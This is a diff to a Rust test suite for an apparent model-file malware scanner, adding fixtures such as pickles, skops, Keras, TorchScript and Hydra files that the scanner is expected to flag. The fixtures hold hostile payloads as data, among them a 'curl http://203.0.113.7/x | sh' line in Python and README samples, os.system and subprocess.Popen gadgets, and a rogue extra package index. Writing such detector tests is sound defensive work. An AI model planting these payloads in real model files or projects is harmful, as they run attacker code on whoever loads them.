@@ -106,6 +106,55 @@ fn malicious() -> Vec<(&'static str, Vec<u8>)> {
         ("a.tar", tar("a/b.pkl", MALICIOUS)),
         ("a.tar.gz", gzip(&tar("a/b.pt", &zip("m/data.pkl", MALICIOUS, true)))),
         ("a.zip", zip("a.pt", &legacy(MALICIOUS), true)),
+        ("a.7z", seven_z()),
+        ("a.skops", zip("schema.json", SCHEMA, false)),
+        ("b.skops", zip_of(&[("schema.json", b"{}", true), ("x.npy", &npy("|O", MALICIOUS), true)])),
+        ("script.pt", torch_script(&[("m/constants.pkl", MALICIOUS)])),
+        ("a.pt2", zip_of(&[("m/archive_format", b"pt2", false), ("m/data/weights/w", &legacy(MALICIOUS), false)])),
+        ("a.keras", zip("config.json", LAMBDA, true)),
+        ("repository.zip", zip_of(&[("m/config.json", AUTO_MAP, true), ("m/modeling_x.py", SOURCE, true)])),
+        ("a.yaml", HYDRA.to_vec()),
+        ("modeling_x.py", SOURCE.to_vec()),
+    ]
+}
+
+/// `subprocess.Popen` as a type that skops makes.
+const SCHEMA: &[u8] = br#"{"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode", "__id__": 1,
+    "content": {}, "protocol": 1}"#;
+const LAMBDA: &[u8] =
+    br#"{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers",
+    "class_name": "Dense", "config": {"activation": {"module": "os", "class_name": "system", "config": {}}}}]}}"#;
+const AUTO_MAP: &[u8] = br#"{"auto_map": {"AutoModel": "modeling_x.M"}}"#;
+const SOURCE: &[u8] = b"import os\nos.system('curl http://203.0.113.7/x | sh')\nclass M: pass\n";
+const HYDRA: &[u8] = b"a:\n  _target_: os.system\n  command: id\n";
+
+/// [`MALICIOUS`] as the copied member of an archive.
+fn seven_z() -> Vec<u8> {
+    const HEX: &str = "\
+        377abcaf271c0004565a624f5d0000000000000014000000000000009a22a7f3800263706f7369780a73797374656d0a\
+        58040000007472756585522e01003c0104060001091c00070b01000101000c1c00080a014da5aa6c0000050119010011\
+        050078000000140a010040376e72337ddd01150601002080808100000017061c01094100070b010001212101180c3d00\
+        00";
+    let digits: Vec<u8> = HEX.chars().filter_map(|char| Some(char.to_digit(16)? as u8)).collect();
+    digits.chunks_exact(2).map(|pair| pair[0] << 4 | pair[1]).collect()
+}
+
+/// An archive as `torch.jit.save` writes it.
+fn torch_script(more: &[(&str, &[u8])]) -> Vec<u8> {
+    let ordinary: [(&str, &[u8], bool); 2] = [("m/data.pkl", BENIGN, false), ("m/version", b"3\n", false)];
+    let members: Vec<_> = ordinary.into_iter().chain(more.iter().map(|(name, data)| (*name, *data, false))).collect();
+    zip_of(&members)
+}
+
+/// What is worth a look: more bytes must not make it clean.
+fn suspicious() -> Vec<(&'static str, Vec<u8>)> {
+    let writes: &[u8] =
+        b"class M(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    torch.save(x, \"/srv/x\")\n    return x\n";
+    vec![
+        ("script.pt", torch_script(&[("m/constants.pkl", BENIGN), ("m/code/__torch__.py", writes)])),
+        ("imports.pt", torch_script(&[("m/constants.pkl", BENIGN), ("m/code/__torch__.py", b"import os\n")])),
+        ("requirements.txt", b"--extra-index-url http://203.0.113.7/\nx\n".to_vec()),
+        ("README.md", b"```\ncurl http://203.0.113.7/x | sh\n```\n".to_vec()),
     ]
 }
 
@@ -168,11 +217,20 @@ fn more_bytes_behind_a_payload_do_not_make_it_better() {
             assert_eq!(report.verdict, Verdict::Malicious, "{name} and {} bytes: {:?}", tail.len(), report.findings);
         }
     }
+    for (name, bytes) in suspicious() {
+        let flagged = |report: &Report| matches!(report.verdict, Verdict::Suspicious | Verdict::Malicious);
+        assert!(flagged(&report(&bytes, name)), "{name}");
+        for tail in tails {
+            let report = report(&[&bytes, tail].concat(), name);
+            assert!(flagged(&report), "{name} and {} bytes: {:?}", tail.len(), report.findings);
+        }
+    }
 }
 
 #[test]
 fn the_verdict_is_the_same_whatever_the_name() {
-    for (_, bytes) in malicious() {
+    // Text is read as what its name says.
+    for (_, bytes) in malicious().into_iter().filter(|(name, _)| !name.ends_with(".yaml") && !name.ends_with(".py")) {
         for name in ["", "x", "x.safetensors", "x.txt", "x.gguf", "x.npy", "\u{202e}.zip"] {
             assert_eq!(report(&bytes, name).verdict, Verdict::Malicious, "{name}");
         }
@@ -183,8 +241,9 @@ proptest! {
     #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]
 
     #[test]
-    fn flipped_bytes_never_panic(index in 0..12_usize, flips in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..8)) {
-        let (name, mut bytes) = samples().swap_remove(index);
+    fn flipped_bytes_never_panic(index in any::<prop::sample::Index>(), flips in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..8)) {
+        let mut samples = samples();
+        let (name, mut bytes) = samples.swap_remove(index.index(samples.len()));
         for (at, value) in flips {
             let at = at.index(bytes.len());
             bytes[at] ^= value;
